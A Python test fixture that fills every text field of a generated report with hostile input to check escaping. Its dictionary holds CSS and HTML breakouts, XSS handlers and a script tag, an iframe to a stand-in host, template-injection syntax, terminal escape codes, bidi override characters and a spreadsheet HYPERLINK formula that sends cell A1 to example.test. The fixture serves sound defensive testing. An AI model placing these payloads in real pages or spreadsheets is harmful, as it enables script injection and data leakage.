"""A report in which every text that somebody else may have written is hostile to a page."""

from attrs import evolve
from small_indicators import NOON, RATE, WATCH, indicator, plan
from small_office import trace

from docflow.files import Fault, RegisterFile
from docflow.kpi import at_most
from docflow.report import Report
from docflow.report.blocks import Column, Fold, Grid, Line, Row, Section
from docflow.text import Text

HOSTILE = {
    "the end of a string": '";}*{display:none}}*{display:none}',
    "the end of an escaped string": '\\";}*{display:none}}*{display:none}/*',
    "markup": '<b id="hostile" onload="alert(1)">bold</b><img src="x.png" onerror="alert(2)">&amp;&lt;',
    "the end of a style": '</style></title></main></svg><script>console.log("taken")</script><!--',
    "the end of an attribute": "\" onload=\"alert(3)\" x='/><iframe src='http://example.test/'>",
    "a template": "{{ 7 * 7 }} {% for x in y %} ${7 * 7} {# gone #}",
    "a formula": '=HYPERLINK("http://example.test/?"&A1,"click")',
    "a terminal's command": "\x1b[2J\x1b]0;taken\x07gone",
    "marks of direction": "\u202e3652/1 reversed\u2066 and not",
    "a long word": "W" * 5_000,
}


def hostile_report():
    """Each text as title, owner, source and formula of an indicator, number of a late letter, name of a file, cell."""
    one = "".join(text for name, text in HOSTILE.items() if name != "a long word")
    late = [trace(text, ("came", "01-06 09:00"), ("went", "01-20 17:00", text)) for text in HOSTILE.values()]
    named = [
        evolve(
            indicator(f"{number}", WATCH if number % 2 else RATE.measure, target=at_most(12), formula=Text(text, text)),
            title=Text(text, text),
            owner=text,
            source=text,
        )
        for number, text in enumerate(HOSTILE.values(), start=1)
    ]
    made = evolve(plan(*named), title=Text(one, one))
    faults = tuple(
        Fault(row, text, "unreadable", text, text, file=text, number=text) for row, text in enumerate(HOSTILE.values())
    )
    files = {text: RegisterFile(cases=(), faults=faults, notes=faults, rows=20) for text in HOSTILE.values()}
    beside = [
        Section(
            text,
            (
                Line(text),
                Line(text, "warning"),
                Grid((Column(text), Column(text, words=True)), (Row((text, text), "total"),), title=text, note=text),
                Fold(text, (Line(text),)),
            ),
        )
        for text in HOSTILE.values()
    ]
    result = made.evaluate({"letters": late}, as_of=NOON)
    return Report(
        result=result,
        files=files,
        missing=tuple(HOSTILE.values()),
        months={"2020-01": result},
        more=beside,
        office=Text(one, one),
    )
